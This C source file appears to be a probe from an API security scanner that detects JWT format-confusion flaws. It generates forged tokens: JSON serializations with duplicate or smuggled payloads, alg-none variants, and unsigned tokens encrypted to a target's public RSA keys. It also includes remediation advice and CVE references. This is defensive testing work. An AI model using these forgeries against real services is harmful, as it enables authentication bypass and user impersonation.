/* SPDX-License-Identifier: Apache-2.0 */
/* Is a token verified in one form, and read in another? */
#include "base/mutant.h"
#include "scan/forgery/forgery.h"
#include "token/jwe.h"
#include "token/unsigned.h"

/* The genuine payload with members of ours, as a segment. */
static enum err other_claims(struct subject *subject, const struct forgery *forgery,
                             const struct edit *edits, size_t n, struct span *out) {
    struct arena *arena = subject_arena(subject);
    TRY(edit_object(arena, forgery->jws.payload, edits, n, out));
    *out = base64_encode(arena, forgery->jws.form, *out);
    return out->ptr ? OK : ERR_MEMORY;
}

/* JSON to a reader of JSON, which verifies the genuine parts in it; three segments to one who
 * splits at the dots, and skips what is no base64. "~~" keeps the groups of four together. */
static struct span in_two_forms(struct subject *subject, const struct forgery *forgery,
                                struct span claims64) {
    const struct jws *jws = &forgery->jws;
    return arena_printf(subject_arena(subject),
                        "{\"~~%.*s.%.*s.\":\"\",\"protected\":\"%.*s\",\"payload\":\"%.*s\","
                        "\"signature\":\"%.*s\"}",
                        SPAN_ARG(jws->header64), SPAN_ARG(claims64), SPAN_ARG(jws->header64),
                        SPAN_ARG(jws->payload64), SPAN_ARG(jws->signature64));
}

/* Two payloads, of which one reader takes the first and another the last. */
static struct span with_two_payloads(struct subject *subject, const struct forgery *forgery,
                                     struct span claims64, bool ours_first) {
    const struct jws *jws = &forgery->jws;
    struct span first = ours_first ? claims64 : jws->payload64;
    struct span last = ours_first ? jws->payload64 : claims64;
    return arena_printf(subject_arena(subject),
                        "{\"payload\":\"%.*s\",\"protected\":\"%.*s\",\"signature\":\"%.*s\","
                        "\"payload\":\"%.*s\"}",
                        SPAN_ARG(first), SPAN_ARG(jws->header64), SPAN_ARG(jws->signature64),
                        SPAN_ARG(last));
}

static const struct span DOUBLED = SPAN_INIT("format");

enum doubling { TWO_FORMS = 0, OURS_FIRST, OURS_LAST };

static struct span doubled(struct subject *subject, const struct forgery *forgery,
                           struct span claims64, enum doubling how) {
    return how == TWO_FORMS ? in_two_forms(subject, forgery, claims64)
                            : with_two_payloads(subject, forgery, claims64, how == OURS_FIRST);
}

/* Names by which a token calls somebody. */
static const struct span CALLS[] = {SPAN_INIT("sub"),       SPAN_INIT("uid"),
                                    SPAN_INIT("user_id"),   SPAN_INIT("userId"),
                                    SPAN_INIT("id"),        SPAN_INIT("username"),
                                    SPAN_INIT("email"),     SPAN_INIT("preferred_username"),
                                    SPAN_INIT("user_name"), SPAN_INIT("name")};
enum { CALL_COUNT = sizeof(CALLS) / sizeof(*CALLS) };

static const struct span NOBODY = SPAN_INIT("postern-nobody@example.com");
static const struct span NOBODY_NUMBER = SPAN_INIT("2147480000");

/* Somebody whom there is not, called as the token calls its user. */
static struct span nobody_like(const struct node *call) {
    uint64_t number;
    bool digits = span_to_u64(node_scalar(call), &number);
    if (node_is(call, NODE_NUMBER)) {
        return NOBODY_NUMBER;
    }
    return digits ? SPAN("\"2147480000\"") : SPAN("\"postern-nobody@example.com\"");
}

/* All that the genuine claims have, of nobody and long expired. */
static enum err of_nobody(struct subject *subject, const struct forgery *forgery,
                          struct span *claims64) {
    struct edit edits[CALL_COUNT + 1];
    size_t n = 0;
    for (size_t i = 0; i < CALL_COUNT; i++) {
        const struct node *call = node_get(forgery->jws.payload_node, CALLS[i]);
        if (node_scalar(call).len) {
            edits[n++] = (struct edit){CALLS[i], nobody_like(call)};
        }
    }
    edits[n++] = (struct edit){SPAN("exp"), SPAN("1000000000")};
    return other_claims(subject, forgery, edits, n, claims64);
}

static enum err add_witness(struct subject *subject, const struct forgery *forgery,
                            enum doubling how, struct span claims64, struct attack witness,
                            const struct attack **out) {
    struct span token = doubled(subject, forgery, claims64, how);
    TRY_PTR(token.ptr);
    witness.battery = BATTERY_FULL;
    witness.witness = true;
    return forgery_witness(subject, &jwt_format_confusion, forgery, token, witness, out);
}

/* Whoever takes JSON and believes what he verified serves all of them: the first witness's other
 * claims say nothing but that they have expired, and whoever believes those refuses it or falls
 * over it. So may who only looks at them, for a log: he serves the second one, which says all that
 * a token says. */
static enum err add_doubled(struct subject *subject, const struct forgery *forgery,
                            enum doubling how, const char *label) {
    struct edit good = {SPAN("postern"), SPAN("1")};
    static const struct span nothing = SPAN_INIT("{\"exp\":1000000000}");
    struct attack first = {.label = SPAN("the same, whose other claims say nothing")};
    struct attack second = {.label = SPAN("the same, whose other claims name nobody")};
    struct span claims64, token;
    struct attack attack = {
        .label = span_from(label),
        .cause = DOUBLED,
        .battery = BATTERY_FULL,
        .message = SPAN("The signature of one token is verified and the claims of another are "
                        "believed: whoever has a token can change what it says."),
    };
    TRY(of_nobody(subject, forgery, &claims64));
    TRY(add_witness(subject, forgery, how, claims64, second, &first.partner));
    claims64 = base64_encode(subject_arena(subject), forgery->jws.form, nothing);
    TRY_PTR(claims64.ptr);
    TRY(add_witness(subject, forgery, how, claims64, first, &attack.partner));
    TRY(other_claims(subject, forgery, &good, 1, &claims64));
    token = doubled(subject, forgery, claims64, how);
    TRY_PTR(token.ptr);
    return forgery_attack_hidden(subject, &jwt_format_confusion, forgery, token, attack);
}

/* Nothing in it is signed: that it is served is enough. */
static enum err add_unsigned(struct subject *subject, const struct forgery *forgery,
                             struct span token, const char *label, const char *message) {
    TRY_PTR(token.ptr);
    const struct attack attack = {.label = span_from(label),
                                  .cause = SPAN("unsigned"),
                                  .battery = BATTERY_FULL,
                                  .message = span_from(message),
                                  .symptom_of = &jwt_alg_none};
    return forgery_attack(subject, &jwt_format_confusion, forgery, token, attack);
}

static enum err add_forms(struct subject *subject, const struct forgery *forgery,
                          struct span claims) {
    struct span alg = forgery_alg(subject, forgery, forgery->jws.alg);
    TRY_PTR(alg.ptr);
    for (int i = 0; i < UNSIGNED_FORMS && !MUTANT(forms_untried); i++) {
        enum unsigned_form form = (enum unsigned_form)i;
        struct span token;
        TRY(unsigned_make(subject_arena(subject), form, &forgery->jws, alg, claims, &token));
        if (token.ptr) {
            TRY(add_unsigned(subject, forgery, token, unsigned_label(form),
                             unsigned_message(form)));
        }
    }
    return OK;
}

/* To one key: as an unsigned token, and as claims alone. */
static enum err add_wrapped_to(struct subject *subject, const struct forgery *forgery,
                               const struct jwe_to *to, struct span bare, struct span claims) {
    static const char message[] = "A token that is encrypted to the target's public key is "
                                  "believed without a signature: anybody can encrypt to it.";
    struct arena *arena = subject_arena(subject);
    struct span nested, alone;
    TRY(jwe_encrypt(arena, to, SPAN("JWT"), bare, &nested));
    TRY(jwe_encrypt(arena, to, SPAN(""), claims, &alone));
    TRY(add_unsigned(subject, forgery, nested, "an unsigned token, encrypted", message));
    return add_unsigned(subject, forgery, alone, "claims, encrypted", message);
}

/* Encrypted to the target's own public keys, as far as they can be encrypted to. */
static enum err add_wrapped(struct subject *subject, const struct forgery *forgery,
                            struct span claims) {
    const struct published *keys = forgery_public_keys(subject);
    struct forge_signer nobody = {.form = forgery->jws.form};
    struct span bare;
    TRY(forge_token(subject_arena(subject), SPAN("{\"alg\":\"none\"}"), claims, &nobody, &bare));
    for (size_t i = 0; i < keys->n && !MUTANT(wrapping_untried); i++) {
        for (int sha1 = 0; sha1 < 2; sha1++) {
            struct jwe_to to = {keys->at[i].pkey, keys->at[i].kid, sha1};
            enum err made = add_wrapped_to(subject, forgery, &to, bare, claims);
            if (made != ERR_UNSUPPORTED) {
                TRY(made);
            }
        }
    }
    return OK;
}

static enum err forge(struct subject *subject, const struct forgery *forgery) {
    struct edit extra = {SPAN("postern"), SPAN("1")};
    struct span claims;
    TRY(edit_object(subject_arena(subject), forgery->jws.payload, &extra, 1, &claims));
    TRY(add_doubled(subject, forgery, TWO_FORMS,
                    "a genuine token as JSON, whose first name is a token with other claims"));
    TRY(add_doubled(subject, forgery, OURS_FIRST, "a token as JSON with two payloads, ours first"));
    TRY(add_doubled(subject, forgery, OURS_LAST, "a token as JSON with two payloads, ours last"));
    TRY(add_forms(subject, forgery, claims));
    return add_wrapped(subject, forgery, claims);
}

static bool falls(const struct attack *attack) {
    return attack->sample->wire == WIRE_OK && attack->sample->status == 500;
}

/* The answer is made for somebody who stands in the other claims alone, and there in no plain text.
 */
static bool names_nobody(const struct attack *attack) {
    struct span body = attack->exchange->response.body;
    return span_find(body, NOBODY) != SIZE_MAX || span_find(body, NOBODY_NUMBER) != SIZE_MAX;
}

/* A sound reader of JSON serves a genuine token in it whatever stands beside; he refuses nothing
 * that he does not believe, nor falls over what is whole. */
static bool believes_other(const struct attack *attack) {
    const struct attack *bare = attack->partner, *whole = bare ? bare->partner : NULL;
    if (!bare || bare->ruling.verdict == VERDICT_DENIED) {
        return bare != NULL;
    }
    return falls(bare) && whole &&
           (whole->ruling.verdict == VERDICT_DENIED || falls(whole) || names_nobody(whole) ||
            MUTANT(falling_believes));
}

static bool hit(const struct subject *subject, const struct attack *attack) {
    (void)subject;
    bool served = attack->ruling.verdict == VERDICT_GRANTED;
    bool doubled = span_equal(attack->cause, DOUBLED) && !MUTANT(json_condemned);
    return served && (!doubled || believes_other(attack));
}

static const struct rule rule = {
    .id = "jwt-format-confusion",
    .group = "jwt",
    .severity = SEVERITY_CRITICAL,
    .title = "A token is verified in one form and read in another",
    .cwe = {"CWE-347"},
    .owasp = "API2:2023",
    .why =
        "A JWS may be compact or JSON, may stand within another or within a JWE, and its payload "
        "may be plain or compressed. Each form is a path of its own through a verifier. A "
        "library that splits at the dots itself and leaves the signature to another, which "
        "reads JSON as well, verifies one token and believes another (python-jwt, "
        "CVE-2022-39227); one that takes what it decrypted for what was signed believes "
        "whoever has its public key (pac4j-jwt, CVE-2026-29000: an unsigned token within a JWE; "
        "jwcrypto, CVE-2022-3102: a JWE where a JWS was meant); one that asks whether no signature "
        "is wrong believes a token without any (Authlib, joserfc: JSON with an empty list).",
    .how = "A genuine token is sent as JSON in which a name holds a compact token with other "
           "claims, and with two payloads. It fires when that is accepted, and the same is refused "
           "where the other claims name nobody: so they are what is believed (a server error "
           "counts only where complete claims of nobody are not served either). Without any "
           "signature of theirs, claims are sent as JSON (an empty list of signatures; one of the "
           "algorithm none; an unprotected header that says none), under a header with two "
           "algorithms of which one is none, as an unsigned token within a token (cty), as plain "
           "text (b64: false), compressed (zip), and, alone or as an unsigned token, encrypted to "
           "each RSA key that the target publishes (RSA-OAEP and RSA-OAEP-256, A256GCM). It fires "
           "when one is accepted, and altered signatures are refused otherwise.",
    .fix = "Use what the verification gives, never what was parsed beside it; accept the compact "
           "form alone, and refuse b64, zip and cty where you issue none. Refuse what holds a "
           "member twice, and an empty list of signatures. Encryption to a public key proves "
           "nothing of the sender: verify the signature inside, and require one. Update python-jwt "
           "to 3.3.4, jwcrypto to 1.4, joserfc to 1.8 and pac4j-jwt to 4.5.9, 5.7.9 or 6.3.3, or "
           "later; with Authlib call deserialize_compact.",
};

const struct probe jwt_format_confusion = {.rule = &rule,
                                           .needs = NEEDS_SECURITY | NEEDS_REFUSAL | NEEDS_VALID,
                                           .once = true,
                                           .opens = true,
                                           .cause = &jwt_signature_unchecked,
                                           .forge = forge,
                                           .hit = hit};
